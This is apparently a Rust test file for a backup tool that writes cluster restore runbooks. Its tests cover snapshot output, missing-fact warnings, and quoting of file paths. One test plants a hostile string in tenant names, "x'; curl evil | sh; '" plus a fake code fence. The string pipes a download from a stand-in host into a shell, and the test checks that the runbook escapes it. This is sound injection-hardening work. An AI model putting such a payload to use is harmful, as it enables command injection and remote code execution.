//! Tests of the runbook of a restore point, at a fixed time.

use cluster_restore::journal::Phase;

use super::*;
use crate::commands::show::report::tests::point;

fn known(mode: Mode) -> Facts {
    let key = backup_core::crypt::SigningKey::generate().unwrap();
    let nodes = ["10.5.0.2", "10.5.0.3"].map(str::to_owned).to_vec();
    Facts {
        point: point(),
        mode,
        store: "s3://backups/mgmt?endpoint=https://s3.example.net&region=eu-central-1"
            .parse()
            .unwrap(),
        trust: backup_core::crypt::Trust::Keys(vec![key.public().clone()]),
        nodes: Nodes {
            named: nodes,
            endpoints: vec!["10.5.0.2:50000".to_owned()],
            context: Some("butler".to_owned()),
        },
        took: Some(PastDurations::of_seconds(
            "2026-11-20T03:00:00Z".parse().unwrap(),
            &[
                (Phase::Quiesce, 12),
                (Phase::Objects, 95),
                (Phase::Settle, 45),
            ],
        )),
        lacked: Vec::new(),
    }
}

/// Returns the text with the key of this run replaced.
fn written(facts: &Facts, form: Form) -> String {
    let text = runbook(facts).written(form);
    let backup_core::crypt::Trust::Keys(keys) = &facts.trust else {
        return text;
    };
    let key = keys[0].to_string();
    assert!(text.contains(&key));
    text.replace(&key, "RWQPUBLICKEY")
}

#[test]
fn each_way_reads_well_in_both_forms() {
    for (mode, name) in [(Mode::InPlace, "in_place"), (Mode::Rebuild, "rebuild")] {
        let facts = known(mode);
        let markdown = written(&facts, Form::Markdown);
        insta::assert_snapshot!(format!("{name}_markdown"), markdown);
        insta::assert_snapshot!(format!("{name}_text"), written(&facts, Form::Text));
    }
}

#[test]
fn with_the_store_alone_it_says_what_it_could_not_know() {
    let facts = Facts {
        trust: backup_core::crypt::Trust::Anyone,
        store: "file:///srv/it's here".parse().unwrap(),
        nodes: Nodes::default(),
        took: None,
        ..known(Mode::InPlace)
    };
    let text = written(&facts, Form::Markdown);
    for told in [
        "no talosconfig could be read",
        "addresses of the control plane nodes",
        "how long it takes",
        "who holds the private halves",
        "control plane of tenant `team-b/two`",
        "the etcd of DataStore `default` is not in this restore point",
        "WARNING: no signature",
        "${TALOS_NODES:?",
        "talosctl reset --nodes 10.5.0.3 ",
        r#"'store: "file:///srv/it'\''s%20here"'"#,
    ] {
        assert!(text.contains(told), "{told}: {text}");
    }
}

#[test]
fn hostile_names_stay_words() {
    let mut facts = known(Mode::Rebuild);
    let hostile = "x'; curl evil | sh; '\n```\n```sh\ntouch /tmp/x";
    let kubernetes = facts.point.manifest.kubernetes.as_mut().unwrap();
    hostile.clone_into(&mut kubernetes.uid);
    let tenant = &mut kubernetes.tenants[0];
    tenant.tenant_namespace = Some(hostile.to_owned());
    hostile.clone_into(&mut tenant.control_plane.as_mut().unwrap().name);
    let text = written(&facts, Form::Markdown);
    assert!(!text.contains("\ntouch"), "{text}");
    let honest = written(&known(Mode::Rebuild), Form::Markdown);
    let fences = |text: &str| text.lines().filter(|l| l.starts_with("```")).count();
    assert_eq!(fences(&text), fences(&honest));
}
